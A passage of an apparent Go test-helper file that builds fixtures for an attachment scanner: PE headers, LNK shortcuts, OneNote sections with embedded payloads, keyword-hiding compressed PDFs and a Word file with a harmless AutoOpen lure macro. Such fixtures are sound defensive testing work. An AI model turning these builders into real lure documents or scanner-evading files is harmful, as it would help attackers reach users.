		CompressedSize64: uint64(len(raw)), UncompressedSize64: size, CRC32: 0x12345678})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := w.Write(raw); err != nil {
		t.Fatal(err)
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// mkISO writes an ISO 9660 image with go-diskfs.
func mkISO(t testing.TB, scratch string, files map[string][]byte) []byte {
	t.Helper()
	dir, err := os.MkdirTemp(scratch, "iso")
	if err != nil {
		t.Fatal(err)
	}
	img := filepath.Join(dir, "x.iso")
	ws := filepath.Join(dir, "ws")
	if err := os.Mkdir(ws, 0o755); err != nil {
		t.Fatal(err)
	}
	st, err := diskfile.CreateFromPath(img, 4<<20)
	if err != nil {
		t.Fatal(err)
	}
	fs, err := iso9660.Create(st, 0, 0, 2048, ws)
	if err != nil {
		t.Fatal(err)
	}
	names := make([]string, 0, len(files))
	for n := range files {
		names = append(names, n)
	}
	sort.Strings(names)
	for _, name := range names {
		f, err := fs.OpenFile(name, os.O_CREATE|os.O_RDWR)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := f.Write(files[name]); err != nil {
			t.Fatal(err)
		}
		f.Close()
	}
	if err := fs.Finalize(iso9660.FinalizeOptions{}); err != nil {
		t.Fatal(err)
	}
	st.Close()
	b := readFile(t, img)
	// go-diskfs sizes the image generously; the filesystem ends earlier,
	// and the trailing zeros only make the fixture large.
	return bytes.TrimRight(b, "\x00")
}

// ---- file formats (the builders of the attach package's tests, copied:
// test helpers cannot be imported across packages) ----

// minimalPE is a tiny but well-formed PE header, enough for type sniffing.
func minimalPE() []byte {
	b := make([]byte, 512)
	copy(b, "MZ")
	b[0x3c] = 0x80
	copy(b[0x80:], "PE\x00\x00")
	b[0x84], b[0x85] = 0x4c, 0x01 // i386
	b[0x94] = 0xe0                // SizeOfOptionalHeader
	b[0x96] = 0x02                // characteristics: executable
	b[0x98], b[0x99] = 0x0b, 0x01 // PE32 magic
	return b
}

// mkLNK builds a shell link (MS-SHLLINK) with a LinkInfo local path and
// string data.
func mkLNK(target, args, workdir, icon string) []byte {
	const hasLinkInfo, hasWorkingDir, hasArguments, hasIcon, isUnicode = 1 << 1, 1 << 4, 1 << 5, 1 << 6, 1 << 7
	le := binary.LittleEndian
	b := make([]byte, 0x4C)
	le.PutUint32(b, 0x4C)
	copy(b[4:], []byte{0x01, 0x14, 0x02, 0x00, 0x00, 0x00, 0x00, 0x00, 0xc0, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x46})
	le.PutUint32(b[0x14:], hasLinkInfo|hasWorkingDir|hasArguments|hasIcon|isUnicode)
	li := make([]byte, 0x1C)
	le.PutUint32(li[4:], 0x1C)
	le.PutUint32(li[8:], 1)
	le.PutUint32(li[0x0C:], 0x1C)
	vol := make([]byte, 0x11)
	le.PutUint32(vol, 0x11)
	li = append(li, vol...)
	le.PutUint32(li[0x10:], uint32(len(li)))
	li = append(li, target+"\x00"...)
	le.PutUint32(li[0x18:], uint32(len(li)))
	li = append(li, 0)
	le.PutUint32(li, uint32(len(li)))
	b = append(b, li...)
	for _, s := range []string{workdir, args, icon} {
		u := utf16.Encode([]rune(s))
		b = le.AppendUint16(b, uint16(len(u)))
		for _, c := range u {
			b = le.AppendUint16(b, c)
		}
	}
	return append(b, 0, 0, 0, 0)
}

// mkOneNote builds a OneNote section holding FileDataStoreObjects.
func mkOneNote(payloads ...[]byte) []byte {
	header := []byte{0xe7, 0x16, 0xe3, 0xbd, 0x65, 0x26, 0x11, 0x45, 0xa4, 0xc4, 0x8d, 0x4d, 0x0b, 0x7a, 0x9e, 0xac}
	footer := []byte{0x22, 0xa7, 0xfb, 0x71, 0x79, 0x0f, 0x0b, 0x4a, 0xbb, 0x13, 0x89, 0x92, 0x56, 0x42, 0x6b, 0x24}
	b := []byte{0xe4, 0x52, 0x5c, 0x7b, 0x8c, 0xd8, 0xa7, 0x4d, 0xae, 0xb1, 0x53, 0x78, 0xd0, 0x29, 0x96, 0xd3}
	b = append(b, make([]byte, 1000)...)
	for _, p := range payloads {
		b = append(b, header...)
		b = binary.LittleEndian.AppendUint64(b, uint64(len(p)))
		b = append(b, make([]byte, 12)...)
		b = append(b, p...)
		for len(b)%8 != 0 {
			b = append(b, 0)
		}
		b = append(b, footer...)
		b = append(b, make([]byte, 100)...)
	}
	return b
}

// mkPDF writes a classic PDF from object bodies (1-based), with a correct
// xref table.
func mkPDF(objs ...string) []byte {
	var b bytes.Buffer
	b.WriteString("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
	offs := make([]int, len(objs))
	for i, o := range objs {
		offs[i] = b.Len()
		fmt.Fprintf(&b, "%d 0 obj\n%s\nendobj\n", i+1, o)
	}
	x := b.Len()
	fmt.Fprintf(&b, "xref\n0 %d\n0000000000 65535 f \n", len(objs)+1)
	for _, o := range offs {
		fmt.Fprintf(&b, "%010d 00000 n \n", o)
	}
	fmt.Fprintf(&b, "trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n", len(objs)+1, x)
	return b.Bytes()
}

// objectStreamPDF builds a PDF 1.5 whose objects live in one
// Flate-compressed object stream indexed by an xref stream, so that no
// keyword is visible in the raw bytes.
func objectStreamPDF(t testing.TB, objs ...string) []byte {
	t.Helper()
	var hdr, body bytes.Buffer
	for i, o := range objs {
		fmt.Fprintf(&hdr, "%d %d ", i+1, body.Len())
		body.WriteString(o + "\n")
	}
	var z bytes.Buffer
	zw := zlib.NewWriter(&z)
	zw.Write(append(hdr.Bytes(), body.Bytes()...))
	zw.Close()
	var b bytes.Buffer
	b.WriteString("%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
	n := len(objs)
	stmNum, xrefNum := n+1, n+2
	stmOff := b.Len()
	fmt.Fprintf(&b, "%d 0 obj\n<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\nstream\n", stmNum, n, hdr.Len(), z.Len())
	b.Write(z.Bytes())
	b.WriteString("\nendstream\nendobj\n")
	xrefOff := b.Len()
	var x []byte
	x = append(x, 0, 0, 0, 0, 0, 0xff, 0xff)
	for i := 0; i < n; i++ {
		x = append(x, 2, 0, 0, 0, byte(stmNum), 0, byte(i))
	}
	x = append(x, 1, byte(stmOff>>24), byte(stmOff>>16), byte(stmOff>>8), byte(stmOff), 0, 0)
	x = append(x, 1, byte(xrefOff>>24), byte(xrefOff>>16), byte(xrefOff>>8), byte(xrefOff), 0, 0)
	fmt.Fprintf(&b, "%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n", xrefNum, xrefNum+1, len(x))
	b.Write(x)
	fmt.Fprintf(&b, "\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n", xrefOff)
	return b.Bytes()
}

// mkDocm builds a macro-enabled Word document whose VBA project has an
// auto-exec macro that only shows a message (no YARA rule matches it:
// the case isolates macro_document).
func mkDocm(t testing.TB) []byte {
	t.Helper()
	src := "Attribute VB_Name = \"NewMacros\"\r\nSub AutoOpen()\r\n  MsgBox \"このドキュメントは保護されています\"\r\nEnd Sub\r\n"
	vba := buildCFB(vbaEntries("", map[string]string{"NewMacros": src, "ThisDocument": "Attribute VB_Name = \"ThisDocument\"\r\n"}))
	return mkZip(t,
		zipEntry{"[Content_Types].xml", []byte(`<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>`)},
		zipEntry{"_rels/.rels", []byte(`<Relationships/>`)},
		zipEntry{"word/document.xml", []byte(`<w:document/>`)},
		zipEntry{"word/_rels/document.xml.rels", []byte(`<Relationships/>`)},
		zipEntry{"word/vbaProject.bin", vba})
}

// compressVBA is an MS-OVBA §2.4.1.3.6 compressor (greedy longest match).
func compressVBA(in []byte) []byte {
	out := []byte{0x01}
	for start := 0; start < len(in); start += 4096 {
		chunk := in[start:min(start+4096, len(in))]
		var body []byte
		pos := 0
		for pos < len(chunk) {
			flagAt := len(body)
			body = append(body, 0)
			for bit := 0; bit < 8 && pos < len(chunk); bit++ {
				bits := 4
				for (1 << bits) < pos {
					bits++
				}
				maxLen := (0xffff >> bits) + 3
				bestLen, bestOff := 0, 0
				for cand := max(0, pos-(1<<bits)); cand < pos; cand++ {
					l := 0
					for pos+l < len(chunk) && l < maxLen && chunk[cand+l] == chunk[pos+l] {
						l++
					}
					if l > bestLen {
						bestLen, bestOff = l, pos-cand
					}
				}
				if bestLen >= 3 {
					body = binary.LittleEndian.AppendUint16(body, uint16(bestOff-1)<<(16-bits)|uint16(bestLen-3))
					body[flagAt] |= 1 << bit
					pos += bestLen
				} else {
					body = append(body, chunk[pos])
					pos++
				}
			}
		}
		if len(body) > 4096 && len(chunk) == 4096 {
			out = binary.LittleEndian.AppendUint16(out, 0x0fff|0x3<<12)
			out = append(out, chunk...)
			continue
		}
		out = binary.LittleEndian.AppendUint16(out, uint16(len(body)+2-3)|0x3<<12|0x8000)
		out = append(out, body...)
	}
	return out
}

// vbaEntries are the streams of a vbaProject.bin with one module per source.
func vbaEntries(prefix string, sources map[string]string) []cfbEntry {
	names := make([]string, 0, len(sources))
	for n := range sources {
		names = append(names, n)
	}
	sort.Strings(names)
	es := []cfbEntry{
		{prefix + "VBA/dir", compressVBA(vbaDir(names...))},
		{prefix + "VBA/_VBA_PROJECT", []byte{0xcc, 0x61, 0xff, 0xff, 0x00}},
		{prefix + "PROJECT", []byte("ID=\"{00000000-0000-0000-0000-000000000000}\"\r\nDocument=ThisDocument/&H00000000\r\n")},
	}
	for _, n := range names {
		es = append(es, cfbEntry{prefix + "VBA/" + n, compressVBA([]byte(sources[n]))})
	}
	return es
}

// vbaDir builds a decompressed dir stream for the given module names.
func vbaDir(modules ...string) []byte {
	le := binary.LittleEndian
	var d []byte
	rec := func(id uint16, data []byte) {
		d = le.AppendUint16(d, id)
		d = le.AppendUint32(d, uint32(len(data)))
		d = append(d, data...)
	}
	rec(0x0001, []byte{1, 0, 0, 0})
	d = le.AppendUint16(d, 0x0009)
	d = le.AppendUint32(d, 4)
	d = append(d, 1, 0, 0, 0, 0, 0)
	rec(0x000F, le.AppendUint16(nil, uint16(len(modules))))
	for _, m := range modules {
		rec(0x0019, []byte(m))
		rec(0x001A, []byte(m))
		var u []byte
		for _, c := range utf16.Encode([]rune(m)) {
			u = le.AppendUint16(u, c)
		}
		rec(0x0032, u)
		rec(0x0031, []byte{0, 0, 0, 0})
		rec(0x002B, nil)
	}
	rec(0x0010, nil)
	return d
}

type cfbEntry struct {
	path string // "Macros/VBA/dir"
	data []byte
}

type cfbNode struct {
	name     string
	stream   bool
	data     []byte
	children []*cfbNode
	id       uint32
	start    uint32
	size     uint32
}

// buildCFB is a minimal compound file (MS-CFB v3) writer: streams under
// 4096 bytes go to the mini stream, storages are implied by the paths,
// siblings are chained through their right links.
func buildCFB(entries []cfbEntry) []byte {
	const free, end, fatSect, noStream = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD, 0xFFFFFFFF
	le := binary.LittleEndian
	root := &cfbNode{name: "Root Entry"}
	for _, e := range entries {
		n := root
		parts := strings.Split(e.path, "/")
		for i, p := range parts {
			var next *cfbNode
			for _, c := range n.children {
				if c.name == p {
					next = c
				}
			}
			if next == nil {
				next = &cfbNode{name: p}
				n.children = append(n.children, next)
			}
			if i == len(parts)-1 {
				next.stream, next.data = true, e.data
			}
			n = next
		}
	}
	var nodes []*cfbNode
	var number func(n *cfbNode)
	number = func(n *cfbNode) {
		n.id = uint32(len(nodes))
		nodes = append(nodes, n)
		sort.Slice(n.children, func(i, j int) bool { return n.children[i].name < n.children[j].name })
		for _, c := range n.children {
			number(c)
		}
	}
	number(root)
	var mini []byte
	var miniFAT []uint32
	for _, n := range nodes {
		if !n.stream {
			continue
		}
		n.size = uint32(len(n.data))
		if len(n.data) == 0 {
			n.start = end
			continue
		}
		if len(n.data) >= 4096 {
			panic("buildCFB: streams of 4096 bytes or more are not supported")
		}
		n.start = uint32(len(mini) / 64)
		cnt := (len(n.data) + 63) / 64
		for i := 0; i < cnt; i++ {
			if i == cnt-1 {
				miniFAT = append(miniFAT, end)
			} else {
				miniFAT = append(miniFAT, uint32(len(miniFAT)+1))
			}
		}
		mini = append(mini, n.data...)
		mini = append(mini, make([]byte, cnt*64-len(n.data))...)
	}
	secs := func(n int) int { return (n + 511) / 512 }
	dirSecs, miniFATSecs, miniSecs := secs(len(nodes)*128), secs(len(miniFAT)*4), secs(len(mini))
	other := dirSecs + miniFATSecs + miniSecs
	fatSecs := 1
	for (other+fatSecs)*4 > fatSecs*512 {
		fatSecs++
	}
	fat := make([]uint32, fatSecs*128)
	for i := range fat {
		fat[i] = free
	}
	next := 0
	chain := func(n int) uint32 {
		if n == 0 {
			return end
		}
		start := next
		for i := 0; i < n; i++ {
			if i == n-1 {
				fat[next] = end
			} else {
				fat[next] = uint32(next + 1)
			}
			next++
		}
		return uint32(start)
	}
	dirStart, miniFATStart, miniStart := chain(dirSecs), chain(miniFATSecs), chain(miniSecs)
	fatStart := next
	for i := 0; i < fatSecs; i++ {
		fat[next] = fatSect
		next++
	}
	hdr := make([]byte, 512)
	copy(hdr, []byte{0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1})
	le.PutUint16(hdr[24:], 0x3E)
	le.PutUint16(hdr[26:], 3)
	le.PutUint16(hdr[28:], 0xFFFE)
	le.PutUint16(hdr[30:], 9)
	le.PutUint16(hdr[32:], 6)
	le.PutUint32(hdr[44:], uint32(fatSecs))
	le.PutUint32(hdr[48:], dirStart)
	le.PutUint32(hdr[56:], 4096)
	le.PutUint32(hdr[60:], miniFATStart)
	le.PutUint32(hdr[64:], uint32(miniFATSecs))
	le.PutUint32(hdr[68:], end)
	for i := 0; i < 109; i++ {
		v := uint32(free)
		if i < fatSecs {
			v = uint32(fatStart + i)
		}
		le.PutUint32(hdr[76+4*i:], v)
	}
	root.start, root.size = miniStart, uint32(len(mini))
	if len(mini) == 0 {
		root.start = end
	}
	dir := make([]byte, dirSecs*512)
	for k := len(nodes); k < dirSecs*4; k++ {
		e := dir[k*128:]
		le.PutUint32(e[68:], noStream)
		le.PutUint32(e[72:], noStream)
		le.PutUint32(e[76:], noStream)
	}
	right := map[*cfbNode]uint32{}
	for _, n := range nodes {
		for i := 0; i+1 < len(n.children); i++ {
			right[n.children[i]] = n.children[i+1].id
		}
	}
	for _, n := range nodes {
		e := dir[n.id*128:]
		u := utf16.Encode([]rune(n.name))
		for i, c := range u {
			le.PutUint16(e[2*i:], c)
		}
		le.PutUint16(e[64:], uint16(2*len(u)+2))
		switch {
		case n == root:
			e[66] = 5
		case n.stream:
			e[66] = 2
		default:
			e[66] = 1
		}
		e[67] = 1
		le.PutUint32(e[68:], noStream)
		le.PutUint32(e[72:], noStream)
		le.PutUint32(e[76:], noStream)
		if len(n.children) > 0 {
			le.PutUint32(e[76:], n.children[0].id)
		}
		if r, ok := right[n]; ok {
			le.PutUint32(e[72:], r)
		}
		le.PutUint32(e[116:], n.start)
		le.PutUint32(e[120:], n.size)
	}
	out := append([]byte(nil), hdr...)
	pad := func(b []byte) {
		out = append(out, b...)
		if r := len(b) % 512; r != 0 {
			out = append(out, make([]byte, 512-r)...)
		}
	}
	pad(dir)
	mf := make([]byte, 0, len(miniFAT)*4)
	for _, v := range miniFAT {
		mf = le.AppendUint32(mf, v)
	}
	for len(mf)%512 != 0 {
		mf = le.AppendUint32(mf, free)
	}
	pad(mf)
	pad(mini)
	fb := make([]byte, 0, len(fat)*4)
	for _, v := range fat {
		fb = le.AppendUint32(fb, v)
	}
	pad(fb)
	return out
}
